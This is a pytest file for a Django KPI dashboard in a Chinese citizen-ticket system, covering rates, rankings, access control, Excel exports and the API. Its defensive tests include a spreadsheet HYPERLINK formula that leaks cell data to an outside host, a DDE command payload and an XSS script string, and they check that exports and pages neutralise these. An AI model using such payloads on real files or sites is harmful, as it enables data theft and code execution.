"""The dashboard, the lists behind the numbers and the Excel exports, through HTTP."""

from io import BytesIO

import pytest
from openpyxl import load_workbook

from jiesu.kpi.tests.test_rates import crafted  # noqa: F401 - fixture
from jiesu.tickets.workflow import Action

OCTOBER = "period=month&at=2026-10"


def _as(client, user):
    client.force_login(user)
    return client


def test_dashboard_shows_rates_targets_and_ranking(client, world, crafted):  # noqa: F811
    page = _as(client, world.dispatcher).get(f"/kpi/?{OCTOBER}")
    assert page.status_code == 200
    html = page.content.decode()
    assert "66.7%" in html  # 响应率 4/6
    assert "未达标" in html  # against the 100 % target
    assert "甲委员会" in html and "导出Excel" in html
    assert "/kpi/tickets/?from=2026-10-01&amp;to=2026-10-31&amp;count=responded" in html


def test_the_list_behind_a_number_has_exactly_its_tickets(client, world, crafted):  # noqa: F811
    page = _as(client, world.supervisor).get(f"/kpi/tickets/?{OCTOBER}&department=A&count=responded")
    assert page.status_code == 200
    assert page.context["page"].paginator.count == 4
    shown = {t.number for t in page.context["tickets"]}
    assert shown == {crafted[i].number for i in (1, 4, 6, 7)}


def test_handlers_see_their_own_unit_only(client, world, crafted):  # noqa: F811
    page = _as(client, world.handler_b).get(f"/kpi/?{OCTOBER}")
    assert page.status_code == 200 and page.context["filters"].department == world.dept_b
    denied = client.get(f"/kpi/?{OCTOBER}&department=A")
    assert denied.status_code == 403 and "只能查看本单位" in denied.content.decode()
    assert _as(client, world.operator).get("/kpi/").status_code == 403


@pytest.mark.parametrize("query, field", [
    ("period=fortnight", "未知的统计周期"),
    ("from=2026-10-09&to=2026-10-01", "结束日期不能早于起始日期"),
    ("period=month&at=20261", "统计日期格式"),
    ("department=NOPE", "承办单位不存在"),
    ("count=nothing&period=month", "未知的统计项"),
])
def test_bad_parameters_are_a_clear_400(client, world, query, field):
    for url in ("/kpi/", "/kpi/tickets/", "/kpi/ranking.xlsx"):
        if "count=" in query and url != "/kpi/tickets/":
            continue
        response = _as(client, world.dispatcher).get(f"{url}?{query}")
        assert response.status_code == 400, url
        assert field in response.content.decode()


def test_excel_exports(client, world, crafted):  # noqa: F811
    response = _as(client, world.dispatcher).get(f"/kpi/ranking.xlsx?{OCTOBER}")
    assert response.status_code == 200 and "attachment" in response["Content-Disposition"]
    sheet = load_workbook(BytesIO(response.content)).active
    assert sheet.freeze_panes == "A2"
    assert [c.value for c in sheet[1]][:4] == ["排名", "承办单位", "派单量", "响应率"]
    assert sheet["B2"].value == "甲委员会" and sheet["D2"].value == pytest.approx(4 / 6)
    assert sheet["D2"].number_format == "0.0%"

    response = client.get(f"/kpi/tickets.xlsx?{OCTOBER}&department=A&count=dispatched")
    sheet = load_workbook(BytesIO(response.content)).active
    assert sheet["A1"].value == "工单编号" and sheet.freeze_panes == "A2"
    numbers = [row[0].value for row in sheet.iter_rows(min_row=2) if row[0].value and row[0].value.isdigit()]
    assert len(numbers) == 6


def test_charts_come_from_the_installed_package(client, world):
    response = _as(client, world.dispatcher).get("/kpi/plotly.min.js")
    assert response.status_code == 200
    assert b"plotly" in b"".join(response.streaming_content)[:2000].lower()


def test_api_summary_and_ranking(client, world, crafted):  # noqa: F811
    api = _as(client, world.dispatcher)
    body = api.get("/api/v1/kpi/summary?period=month&at=2026-10&department=A").json()
    assert body["counts"]["dispatched"] == 6 and body["rates"]["response"] == pytest.approx(4 / 6)
    assert body["start"] == "2026-10-01" and body["department"] == "A"
    rows = api.get("/api/v1/kpi/ranking?start=2026-10-01&end=2026-10-31").json()
    assert [(r["rank"], r["department"]) for r in rows] == [(1, "A"), (None, "B")]
    bad = api.get("/api/v1/kpi/summary?period=month&at=2026-13")
    assert bad.status_code == 400 and bad.json()["code"] == "invalid" and "统计日期" in bad.json()["fields"]["at"]
    denied = _as(client, world.operator).get("/api/v1/kpi/summary")
    assert denied.status_code == 403 and denied.json()["code"] == "kpi_forbidden"


def test_targets_are_edited_in_the_admin(client, world):
    admin = _as(client, world.admin)
    world.admin.is_staff = world.admin.is_superuser = True
    world.admin.save()
    response = admin.post("/admin/kpi/kpitarget/add/", {"rate": "resolution", "department": world.dept_a.pk,
                                                         "value": "0.95"})
    assert response.status_code == 302
    from jiesu.kpi.definitions import target

    assert target("resolution", world.dept_a_sub) == 0.95
    from jiesu.kpi.models import KpiTarget

    bad = admin.post("/admin/kpi/kpitarget/add/", {"rate": "resolution", "value": "1.5"})
    assert bad.status_code == 200 and "errorlist" in bad.content.decode()  # the form shows the error
    assert KpiTarget.objects.count() == 1


def test_the_satisfaction_card_shows_both_parts(client, world, crafted):  # noqa: F811
    html = _as(client, world.dispatcher).get(f"/kpi/?{OCTOBER}&department=A").content.decode()
    card = html[html.index('data-rate="satisfaction"'):]
    card = card[:card.index("</div>\n  </div>")]
    assert "60.0%" in card  # (1 + 0.8 × 1) / 3
    assert 'title="满意">1</a> + 0.8×<a' in card and 'title="基本满意">1</a>) / <a' in card


def test_exports_never_carry_a_live_formula(client, world):
    """Titles come from citizens and partners: a title that reads as a formula stays text in every workbook."""
    from jiesu.knowledge import excel as knowledge_excel
    from jiesu.knowledge import services as knowledge

    evil = '=HYPERLINK("http://x.cn/?"&A2,"查看详情")'
    world.act(world.new_ticket(title=evil), Action.DISPATCH)
    response = _as(client, world.dispatcher).get("/kpi/tickets.xlsx?period=day&count=dispatched")
    cells = [c for row in load_workbook(BytesIO(response.content)).active.iter_rows() for c in row
             if c.value == evil]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)

    version = knowledge.save_draft(actor=world.handler_a, data={"title": "=cmd|' /C calc'!A0", "answer": "@SUM(1+1)",
                                                                "questions": ["+1 怎么办"]})
    knowledge.submit(actor=world.handler_a, code=version.article.code)
    knowledge.review(actor=world.supervisor, code=version.article.code, approve=True)
    sheet = load_workbook(BytesIO(knowledge_excel.export())).active
    risky = [c for row in sheet.iter_rows(min_row=2) for c in row if isinstance(c.value, str) and c.value[:1] in "=@+"]
    assert len(risky) == 3 and all(c.data_type == "s" and c.quotePrefix for c in risky)


def test_names_edited_in_the_admin_cannot_run_script_on_the_dashboard(client, world, crafted):  # noqa: F811
    for category in (world.category, world.category.parent):
        category.name = '</script><script>alert("xss")</script>'
        category.save()
    page = _as(client, world.dispatcher).get(f"/kpi/?{OCTOBER}").content.decode()
    assert '<script>alert("xss")' not in page
    assert 'id="kpi-chart-data"' in page and "\\u003C/script\\u003E" in page
